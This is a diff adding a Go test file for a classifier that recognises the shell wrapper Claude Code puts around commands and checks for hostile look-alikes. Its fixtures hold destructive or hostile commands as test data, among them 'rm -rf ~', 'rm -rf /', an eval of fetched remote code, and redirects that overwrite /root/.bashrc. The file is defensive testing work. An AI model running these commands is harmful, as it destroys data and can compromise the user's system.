@@ -1,0 +1,151 @@
+package classify
+
+import (
+	"strings"
+	"testing"
+)
+
+// envCtx is the context the captured strings ran in.
+var envCtx = EnvelopeContext{
+	SnapshotDirs: []string{"/home/damu/.claude/shell-snapshots", "/root/.claude/shell-snapshots", "/home/hp/.claude/shell-snapshots", "/home/lin/.claude/shell-snapshots"},
+	TempDirs:     []string{"/tmp"},
+}
+
+// Real envelopes, as Claude Code ran them (captured with ps by users and
+// published in public repositories and issues; the eval payloads are theirs).
+var envelopeCaptures = []struct {
+	name, in, shape, payload string
+}{
+	{
+		"2.1-unalias pipe",
+		`source /home/damu/.claude/shell-snapshots/snapshot-bash-1788557415117-j0hu0n.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'unsetenv'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'pgrep -af "5175" | head -3; echo "---"; true' < /dev/null && pwd -P >| /tmp/claude-f8eb-cwd`,
+		"claude-bash-unalias", `pgrep -af "5175" | head -3; echo "---"; true`,
+	},
+	{
+		"2.1-unalias quotes",
+		`source /home/lin/.claude/shell-snapshots/snapshot-bash-1787645352430-itq4da.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'unsetenv'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'P="nav2_costmap_2"d; pkill -f "$P" 2>/dev/null; sleep 2; pgrep -af costmap | head -3' < /dev/null && pwd -P >| /tmp/claude-93e6-cwd`,
+		"claude-bash-unalias", `P="nav2_costmap_2"d; pkill -f "$P" 2>/dev/null; sleep 2; pgrep -af costmap | head -3`,
+	},
+	{
+		"2.1 without unalias",
+		`source /home/hp/.claude/shell-snapshots/snapshot-bash-1784794254234-aatt61.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'pgrep -af "kubectl.*port-forward" 2>&1 | grep orders-api || echo "none (clean)"' < /dev/null && pwd -P >| /tmp/claude-f0f5-cwd`,
+		"claude-bash", `pgrep -af "kubectl.*port-forward" 2>&1 | grep orders-api || echo "none (clean)"`,
+	},
+	{
+		"remote, embedded single quotes",
+		`source /root/.claude/shell-snapshots/snapshot-bash-1790248092933-kmkub2.sh 2>/dev/null || true && export BUN_OPTIONS="--smol${BUN_OPTIONS:+ $BUN_OPTIONS}" && shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'unsetenv'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'for b in 5 6 7 8; do ./launch-render.sh $b; done; printf '"'"'qa/beat-*/*.png\n'"'"' >> .gitignore' < /dev/null && pwd -P >| /tmp/claude-02c9-cwd`,
+		"claude-bash-remote-unalias", `for b in 5 6 7 8; do ./launch-render.sh $b; done; printf 'qa/beat-*/*.png\n' >> .gitignore`,
+	},
+	{
+		"no snapshot",
+		`shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'unsetenv'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'git status' < /dev/null && pwd -P >| /tmp/claude-1aad-cwd`,
+		"claude-bash-nosnapshot-unalias", `git status`,
+	},
+	{
+		"heredoc: no stdin redirect",
+		"source /root/.claude/shell-snapshots/snapshot-bash-1787326986906-4m87dp.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'cat <<'\"'\"'EOF'\"'\"'\nhi\nEOF' && pwd -P >| /tmp/claude-944b-cwd",
+		"claude-bash-unalias", "cat <<'EOF'\nhi\nEOF",
+	},
+	{
+		"shell-quote bare word",
+		`source '/root/.claude/shell-snapshots/snapshot-bash-1787774876905-r620mp.sh' 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval ls < /dev/null && pwd -P >| /tmp/claude-944b-cwd`,
+		"claude-bash", `ls`,
+	},
+	{
+		"shell-quote double quotes",
+		`source /root/.claude/shell-snapshots/snapshot-bash-1787774876905-r620mp.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval "echo 'it'\''s' \$HOME" < /dev/null && pwd -P >| /tmp/claude-944b-cwd`,
+		"claude-bash", `echo 'it'\''s' $HOME`,
+	},
+}
+
+// Look-alikes: each is judged as the composite it is.
+var envelopeHostile = []struct{ name, in string }{
+	{"command after eval", `source /root/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && rm -rf ~ && pwd -P >| /tmp/claude-1234-cwd`},
+	{"command before eval", `source /root/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && rm -rf ~ && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"cwd file outside the temp dir", `source /root/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /root/.bashrc`},
+	{"cwd file in a temp subdir", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/x/claude-1234-cwd`},
+	{"cwd file with dotdot", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/../etc/claude-1234-cwd`},
+	{"cwd file name", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/profile`},
+	{"extra source", `source /root/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && source /root/.claude/shell-snapshots/snapshot-bash-2-b.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"snapshot elsewhere", `source /tmp/snapshot-bash-1-a.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"snapshot other name", `source /root/.claude/shell-snapshots/evil.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"snapshot expanded", `source $HOME/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"redirect appended", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd > /root/.bashrc`},
+	{"redirect on eval", `shopt -u extglob 2>/dev/null || true && eval 'ls' > /root/.bashrc && pwd -P >| /tmp/claude-1234-cwd`},
+	{"second eval word", `shopt -u extglob 2>/dev/null || true && eval 'ls' '; rm -rf ~' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"payload expands", `shopt -u extglob 2>/dev/null || true && eval "$(curl x)" < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"payload param", `shopt -u extglob 2>/dev/null || true && eval $X < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"payload glob", `shopt -u extglob 2>/dev/null || true && eval r* < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"semicolon instead of and", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null ; pwd -P >| /tmp/claude-1234-cwd`},
+	{"or before cwd", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null || rm -rf ~ && pwd -P >| /tmp/claude-1234-cwd`},
+	{"background", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd &`},
+	{"trailing statement", "shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd\nrm -rf ~"},
+	{"assignment before eval", `shopt -u extglob 2>/dev/null || true && PATH=/x eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"shopt changed", `shopt -s extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"unalias other name", `shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'rm'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"negated", `! shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"comment", `shopt -u extglob 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1234-cwd # x`},
+	{"subshell eval", `shopt -u extglob 2>/dev/null || true && (eval 'ls') < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"no eval", `shopt -u extglob 2>/dev/null || true && ls < /dev/null && pwd -P >| /tmp/claude-1234-cwd`},
+	{"plain command", `git status`},
+	{"does not parse", `eval 'ls`},
+}
+
+func TestEnvelopeCaptures(t *testing.T) {
+	for _, c := range envelopeCaptures {
+		got, ok := RecognizeEnvelope(c.in, envCtx)
+		if c.shape == "" {
+			if ok {
+				t.Errorf("%s: recognised as %s, want not recognised", c.name, got.Shape)
+			}
+			continue
+		}
+		if !ok {
+			t.Errorf("%s: not recognised", c.name)
+			continue
+		}
+		if got.Shape != c.shape || got.Payload != c.payload || got.Agent != "claude" {
+			t.Errorf("%s: got %+v, want shape %s payload %q", c.name, got, c.shape, c.payload)
+		}
+	}
+}
+
+func TestEnvelopeHostile(t *testing.T) {
+	for _, c := range envelopeHostile {
+		if got, ok := RecognizeEnvelope(c.in, envCtx); ok {
+			t.Errorf("%s: recognised as %s with payload %q; want judged as the composite it is", c.name, got.Shape, got.Payload)
+		}
+	}
+}
+
+// The recognised envelope must not hide what the payload does: the payload
+// is what Analyze judges.
+func TestEnvelopePayloadIsJudged(t *testing.T) {
+	in := `shopt -u extglob 2>/dev/null || true && eval 'rm -rf /' < /dev/null && pwd -P >| /tmp/claude-1234-cwd`
+	e, ok := RecognizeEnvelope(in, envCtx)
+	if !ok || e.Payload != "rm -rf /" {
+		t.Fatalf("got %+v %v", e, ok)
+	}
+	if a := Analyze(e.Payload, Options{Cwd: "/tmp", Home: "/root"}); len(a.Deny) == 0 && a.Fail == "" {
+		t.Errorf("payload %q not denied: %+v", e.Payload, a)
+	}
+}
+
+func FuzzEnvelope(f *testing.F) {
+	for _, c := range envelopeCaptures {
+		f.Add(c.in)
+	}
+	for _, c := range envelopeHostile {
+		f.Add(c.in)
+	}
+	f.Fuzz(func(t *testing.T, in string) {
+		e, ok := RecognizeEnvelope(in, envCtx)
+		if !ok {
+			return
+		}
+		// what is recognised ends with Claude's cwd write and holds an eval
+		if !strings.Contains(in, "eval ") || !strings.Contains(in, "pwd -P >| /tmp/claude-") {
+			t.Fatalf("recognised %q as %s", in, e.Shape)
+		}
+	})
+}
